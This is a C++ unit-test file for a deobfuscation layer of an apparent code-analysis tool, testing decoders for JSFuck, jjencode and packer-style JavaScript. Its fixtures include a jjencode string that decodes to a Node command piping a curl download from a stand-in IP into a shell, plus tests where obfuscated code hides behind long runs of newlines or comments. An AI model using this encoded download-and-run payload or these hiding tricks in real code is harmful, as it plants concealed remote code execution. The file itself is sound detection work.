#include "facts/layers/jsfuck.h"

#include <gtest/gtest.h>

#include "base/limits.h"
#include "facts/harness_test.h"
#include "facts/obfuscator.h"

namespace facts {
namespace {

// clang-format off
/// JSFuck's own words for fetch(1), to be run.
constexpr std::string_view kFetch =
    R"j([][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+)j"
    R"j([])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]][([][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(!)j"
    R"j([]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]]+[])[!+[]+)j"
    R"j(!+[]+!+[]]+(!![]+[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![)j"
    R"j(]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]])[+!+[]+[+[]]]+([][[]]+[])[+!+[])j"
    R"j(]+(![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[+!+[]]+([][[]]+[])[+[]]+([][(![]+[)j"
    R"j(])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+)j"
    R"j(!+[]+!+[]]+(!![]+[])[+!+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[][(![]+[])[+[]])j"
    R"j(+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+)j"
    R"j([]]+(!![]+[])[+!+[]]])[+!+[]+[+[]]]+(!![]+[])[+!+[]]]((![]+[])[+[]]+(!![]+[])[!+[]+!+[)j"
    R"j(]+!+[]]+(!![]+[])[+[]]+([][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[)j"
    R"j(]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]]+[])[!+[]+!+[]+!+[]]+(+(+)j"
    R"j(!+[]+[+[]]+[+!+[]]))[(!![]+[])[+[]]+(!![]+[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]])j"
    R"j(+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]])[+!+[])j"
    R"j(+[+[]]]+(+![]+([]+[])[([][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[])j"
    R"j(]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]]+[])[!+[]+!+[]+!+[]]+(!![])j"
    R"j(+[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![])j"
    R"j(+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]])[+!+[]+[+[]]]+([][[]]+[])[+!+[]]+(![]+[])[!+[]+)j"
    R"j(!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[+!+[]]+([][[]]+[])[+[]]+([][(![]+[])[+[]]+([![]]+[)j"
    R"j(][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![])j"
    R"j(+[])[+!+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[][(![]+[])[+[]]+([![]]+[][[]])[)j"
    R"j(+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!)j"
    R"j(+[]]])[+!+[]+[+[]]]+(!![]+[])[+!+[]]])[+!+[]+[+[]]]+(!![]+[])[+[]]+(!![]+[])[+!+[]]+([)j"
    R"j(![]]+[][[]])[+!+[]+[+[]]]+([][[]]+[])[+!+[]]+(+![]+[![]]+([]+[])[([][(![]+[])[+[]]+([!)j"
    R"j([]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+)j"
    R"j((!![]+[])[+!+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[])j"
    R"j(]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]])[+!+)j"
    R"j([]+[+[]]]+([][[]]+[])[+!+[]]+(![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[+!+[]]+)j"
    R"j(([][[]]+[])[+[]]+([][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!!)j"
    R"j([]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[])[)j"
    R"j(+[]]+(!![]+[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[)j"
    R"j(+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]])[+!+[]+[+[]]]+(!![]+[])[+!+[]]])[!+[])j"
    R"j(+!+[]+[+[]]]](!+[]+!+[]+[+!+[]])[+!+[]]+(![]+[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[)j"
    R"j(]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]])[!+)j"
    R"j([]+!+[]+[+[]]]+[+!+[]]+(!![]+[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[)j"
    R"j(]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]])[!+[]+!+[]+[+[]]])()j"
    R"j())j";
/// jjencode's for require('child_process').exec('curl -s http://192.0.2.9/a | sh').
constexpr std::string_view kJjencode =
    R"j($=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$,$_$$:({}+"")[$],$$_)j"
    R"j($:($[$]+"")[$],_$$:++$,$$$_:(!""+"")[$],$__:++$,$_$:++$,$$__:({}+"")[$],$$_:++$,$$$:++)j"
    R"j($,$___:++$,$__$:++$};$.$_=($.$_=$+"")[$.$_$]+($._$=$.$_[$.__$])+($.$$=($.$+"")[$.__$]))j"
    R"j(+((!$)+"")[$._$$]+($.__=$.$_[$.$$_])+($.$=(!""+"")[$.__$])+($._=(!""+"")[$._$_])+$.$_[)j"
    R"j($.$_$]+$.__+$._$+$.$;$.$$=$.$+(!""+"")[$._$$]+$.__+$._+$.$+$.$$;$.$=($.___)[$.$_][$.$_)j"
    R"j(];$.$($.$($.$$+"\""+"\\"+$.__$+$.$$_+$._$_+$.$$$_+"\\"+$.__$+$.$$_+$.__$+$._+"\\"+$.__)j"
    R"j($+$.$_$+$.__$+"\\"+$.__$+$.$$_+$._$_+$.$$$_+"('"+$.$$__+"\\"+$.__$+$.$_$+$.___+"\\"+$.)j"
    R"j(__$+$.$_$+$.__$+(![]+"")[$._$_]+$.$$_$+"_\\"+$.__$+$.$$_+$.___+"\\"+$.__$+$.$$_+$._$_+)j"
    R"j($._$+$.$$__+$.$$$_+"\\"+$.__$+$.$$_+$._$$+"\\"+$.__$+$.$$_+$._$$+"')."+$.$$$_+"\\"+$._)j"
    R"j(_$+$.$$$+$.___+$.$$$_+$.$$__+"('"+$.$$__+$._+"\\"+$.__$+$.$$_+$._$_+(![]+"")[$._$_]+"\)j"
    R"j(\"+$.$__+$.___+"-\\"+$.__$+$.$$_+$._$$+"\\"+$.$__+$.___+"\\"+$.__$+$.$_$+$.___+$.__+$.)j"
    R"j(__+"\\"+$.__$+$.$$_+$.___+"://"+$.__$+$.$__$+$._$_+"."+$.___+"."+$._$_+"."+$.$__$+"/"+)j"
    R"j($.$_$_+"\\"+$.$__+$.___+"|\\"+$.$__+$.___+"\\"+$.__$+$.$$_+$._$$+"\\"+$.__$+$.$_$+$.__)j"
    R"j(_+"')"+"\"")())();)j";
// clang-format on

TEST(JsFuck, IsWorkedOut) {
  EXPECT_EQ(DecodeJsFuck(kFetch), "fetch(1)");
  EXPECT_EQ(DecodeJsFuck("(![]+[])[+[]]+(!![]+[])[+!+[]]"), "fr");
  EXPECT_EQ(DecodeJsFuck("[+!+[]]+[+[]]"), "10");
  EXPECT_EQ(DecodeJsFuck(""), std::nullopt);
  EXPECT_EQ(DecodeJsFuck("[][[]]"), std::nullopt);  // undefined is no text
  EXPECT_EQ(DecodeJsFuck("(![]+[]"), std::nullopt);
  EXPECT_EQ(DecodeJsFuck("![]+a"), std::nullopt);
  EXPECT_EQ(DecodeJsFuck("[][[]][[]]"), std::nullopt);
}

TEST(JsFuck, IsBounded) {
  const auto nested = [](std::size_t depth) {
    return std::string(depth, '(') + "[]+[]" + std::string(depth, ')');
  };
  EXPECT_EQ(DecodeJsFuck(nested(limits::kScriptDepth - 1)), "");
  EXPECT_EQ(DecodeJsFuck(nested(limits::kScriptDepth)), std::nullopt);
  EXPECT_EQ(DecodeJsFuck(std::string(100'000, '[')), std::nullopt);
  EXPECT_EQ(DecodeJsFuck(std::string(limits::kLayerBytes + 1, '!')), std::nullopt);
  for (std::size_t end = 0; end < kFetch.size(); end += 7)
    static_cast<void>(DecodeJsFuck(kFetch.substr(0, end)));
}

TEST(Jjencode, IsRead) {
  EXPECT_EQ(DecodeJjencode(kJjencode),
            "require('child_process').exec('curl -s http://192.0.2.9/a | sh')");
  EXPECT_EQ(DecodeJjencode("$=~[];$={___:++$}"), std::nullopt);
  EXPECT_EQ(DecodeJjencode(std::string(limits::kLayerBytes + 1, ' ')), std::nullopt);
  // The last semicolon is nobody's.
  for (std::size_t end = 0; end + 1 < kJjencode.size(); ++end)
    EXPECT_EQ(DecodeJjencode(kJjencode.substr(0, end)), std::nullopt);
}

TEST(Obfuscators, TheirProgramsAreFollowed) {
  const auto facts = [](std::string_view code) {
    return Lines(Only(ExtractFrom({{"index.js", code}}), "code."));
  };
  EXPECT_NE(facts(kFetch).find("code.net.send [import] index.js:1:1"), std::string::npos)
      << facts(kFetch);
  EXPECT_NE(facts(kFetch).find("tool=jsfuck => fetch(1)"), std::string::npos) << facts(kFetch);
  EXPECT_NE(facts(kJjencode).find("command=curl -s http://192.0.2.9/a | sh"), std::string::npos);
  // In the middle of other code, which is long enough that no sample shows it.
  const std::string among = std::string(30'000, '\n') + "let a = 1;" + std::string(kFetch) + ";" +
                            std::string(90'000, '\n') + "module.exports = a;";
  EXPECT_NE(facts(among).find("tool=jsfuck"), std::string::npos);
}

/// A comment and a line end behind every sign that no text holds.
std::string Commented(std::string_view code) {
  std::string text;
  bool quoted = false;
  for (std::size_t i = 0; i < code.size(); ++i) {
    text += code[i];
    if (quoted && code[i] == '\\') {
      text += code[++i];
      continue;
    }
    if (code[i] == '"') quoted = !quoted;
    if (!quoted && std::string_view("[](,{").find(code[i]) != std::string_view::npos)
      text += " /* see\nthe notes */ ";
  }
  return text;
}

TEST(Obfuscators, CommentsAndLineEndsHideNothing) {
  const auto facts = [](std::string_view code) {
    return Lines(Only(ExtractFrom({{"index.js", code}}), "code."));
  };
  const std::string fuck = Commented(kFetch);
  EXPECT_NE(facts(fuck).find("tool=jsfuck => fetch(1)"), std::string::npos) << facts(fuck);
  for (const std::string_view before : {"", "var ", "let a = 1, "}) {
    const std::string jj = Commented(std::string(before) + std::string(kJjencode));
    EXPECT_NE(facts(jj).find("tool=jjencode"), std::string::npos) << facts(jj);
    EXPECT_NE(facts(jj).find("command=curl -s http://192.0.2.9/a | sh"), std::string::npos);
  }
  const std::string packed =
      "eval(/* a */function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b'"
      ",'g'),k[c]);return p}('0(1)',2,2,'fetch|1'.split('|'),0,{}))";
  EXPECT_NE(facts(packed).find("tool=packer"), std::string::npos) << facts(packed);
}

}  // namespace
}  // namespace facts
